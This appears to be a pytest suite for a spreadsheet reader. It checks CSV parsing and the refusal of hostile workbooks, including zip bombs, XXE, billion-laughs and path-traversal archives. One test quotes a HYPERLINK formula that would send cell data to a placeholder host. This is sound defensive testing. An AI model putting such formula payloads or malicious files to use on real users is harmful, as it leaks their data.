"""Tables are read as they are, or refused with the line and what to do."""

import csv
import io
import json
import resource
import time
import zipfile

import pytest

from heedful.papers.sheets import AskEncoding, Unreadable, open_sheet, peek, write_xlsx


@pytest.fixture
def bad(shared):
    return shared / "reference" / "bad-input"


def refusal(path, **options):
    """What is said of a file that is not taken."""
    with pytest.raises(Unreadable) as refused:
        list(open_sheet(path, **options).rows())
    return " ".join(refused.value.messages)


@pytest.mark.parametrize(
    "name", ["comma_in_quotes", "empty_crlf", "json", "newlines", "quotes_and_newlines", "simple_crlf"]
)
def test_a_well_formed_table_is_read_as_it_is_meant(bad, name):
    folder = bad / "csv" / "well-formed"

    sheet = open_sheet(folder / f"{name}.csv")

    read = [dict(zip(sheet.header, row.cells, strict=True)) for row in sheet.rows()]
    assert read == json.loads((folder / f"{name}.json").read_text())


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("unclosed-quote", "line 2 is not closed"),
        ("ragged-rows", "Line 2 has 2 cells, the header has 5"),
        ("nul-bytes", "Line 2 holds a NUL character"),
        ("duplicate-header", "Two columns are called “score”"),
        ("huge-field", "more than 131,072 characters"),
        ("only-header", "no rows"),
        ("empty", "empty"),
    ],
)
def test_a_broken_table_is_refused_with_its_line(bad, name, words):
    assert words in refusal(bad / "csv" / "malformed" / f"{name}.csv")


@pytest.mark.parametrize(
    ("name", "encoding", "delimiter", "rows"),
    [("utf16le-bom", "utf-16", ",", 20), ("semicolons-bom", "utf-8-sig", ";", 20), ("cr-only", "utf-8", ",", 20),
     ("formulas", "utf-8", ",", 6)],
)  # fmt: skip
def test_an_unusual_table_is_taken(bad, name, encoding, delimiter, rows):
    sheet = open_sheet(bad / "csv" / "malformed" / f"{name}.csv")

    assert (sheet.encoding, sheet.delimiter, len(list(sheet.rows()))) == (encoding, delimiter, rows)
    assert sheet.header == ["ref", "received", "channel", "score", "comment"]


def test_a_formula_is_read_as_the_text_it_is(bad):
    rows = list(open_sheet(bad / "csv" / "malformed" / "formulas.csv").rows())

    assert rows[0].cells[4] == '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def test_letters_that_bytes_do_not_tell_are_asked_about_and_never_guessed(bad):
    path = bad / "csv" / "malformed" / "latin1.csv"

    with pytest.raises(AskEncoding):
        open_sheet(path)

    ways = {name: lines for name, _, lines in peek(path)}
    assert "Réclamation déposée à l'accueil" in ways["cp1252"][0]
    assert "Réclamation" in open_sheet(path, encoding="cp1252").first(1)[0].cells[4]


def test_a_tab_stands_between_cells_too_and_lines_are_counted_with_breaks_in_cells(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text('a\tb\n"one\ntwo"\t2\n\n\n3\t4\n')

    assert [(row.line, row.cells) for row in open_sheet(path).rows()] == [(2, ["one\ntwo", "2"]), (6, ["3", "4"])]


def test_reading_a_large_file_takes_no_memory_that_grows(tmp_path):
    path = tmp_path / "a.csv"
    with path.open("w") as file:
        file.write("a,b\n")
        file.writelines(f"{n},{'x' * 400}\n" for n in range(100_000))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

    assert sum(1 for _ in open_sheet(path).rows()) == 100_000

    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 20 * 1024


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("bomb-64MiB-spaces.xlsx", "larger than it may be"),
        ("entities-billion-laughs.xlsx", "entities"),
        ("xxe-file.xlsx", "entities"),
        ("external-link.xlsx", "draws on another file"),
        ("path-traversal.xlsx", "lead elsewhere"),
        ("csv-renamed.xlsx", "not an Excel file"),
        ("truncated.xlsx", "damaged"),
        ("legacy-ole.xlsx", "old (.xls) or password-protected"),
        ("formula-cells.xlsx", "no rows"),
        ("overlap-200x10MiB.zip", "CSV (.csv) or as Excel"),
        ("traversal.zip", "CSV (.csv) or as Excel"),
    ],
)
def test_a_workbook_that_would_do_harm_is_refused_quickly_and_with_a_reason(bad, name, words, tmp_path):
    memory, began = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()

    assert words in refusal(bad / "xlsx-zip" / name)

    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - memory < 100 * 1024
    assert time.process_time() - began < 2
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["overlap-200x10MiB.zip", "traversal.zip"])
def test_an_archive_under_the_name_of_a_workbook_is_refused_as_well(bad, name):
    assert refusal(bad / "xlsx-zip" / name, called="a.xlsx")


@pytest.mark.parametrize("name", ["good.xlsx", "dimension-lie.xlsx"])
def test_a_workbook_is_read_by_its_cells_whatever_it_says_of_its_size(bad, name):
    sheet = open_sheet(bad / "xlsx-zip" / name)

    assert [row.cells for row in sheet.rows()] == [["C-1", "2026-01-01", "web", "9", "ok"]]


@pytest.mark.parametrize("cell", ['r="A1048576"', "r = 'XFD2'", 'r="xfd2"'])
def test_a_cell_far_outside_is_refused_before_room_is_made_for_all_between(bad, tmp_path, cell):
    path = tmp_path / "far.xlsx"
    with zipfile.ZipFile(bad / "xlsx-zip" / "good.xlsx") as good, zipfile.ZipFile(path, "w") as far:
        for part in good.infolist():
            content = good.read(part)
            if "worksheets/" in part.filename:
                more = f'<row r="3"><c {cell} t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
                content = content.replace(b"</sheetData>", more.encode())
            far.writestr(part.filename, content)

    assert "reaches" in refusal(path)


def test_a_csv_file_that_is_a_workbook_is_refused_by_its_name(bad):
    assert "is a workbook" in refusal(bad / "xlsx-zip" / "good.xlsx", called="a.csv")


def test_numbers_days_and_yes_become_text_as_people_write_them(tmp_path):
    path = tmp_path / "a.xlsx"
    import datetime

    path.write_bytes(write_xlsx(["n", "d", "f"], [[7, datetime.date(2026, 3, 9), 2.5]]))

    assert next(open_sheet(path).rows()).cells == ["7", "2026-03-09", "2.5"]


def test_a_header_without_words_is_refused(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("a,,c\n1,2,3\n")

    assert "Column 2 has no name" in refusal(path)


def test_what_excel_says_of_its_separator_is_heard(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("sep=;\na;b\n1,5;2\n")

    assert [row.cells for row in open_sheet(path).rows()] == [["1,5", "2"]]


def test_a_file_read_by_the_csv_module_has_the_same_cells(shared):
    path = shared / "data" / "nhs-patient-feedback" / "nhs_fft_responses.csv"
    with path.open(newline="", encoding="utf-8") as file:
        expected = list(csv.reader(io.StringIO(file.read(), newline="")))[1:]

    assert [row.cells for row in open_sheet(path).rows()] == expected
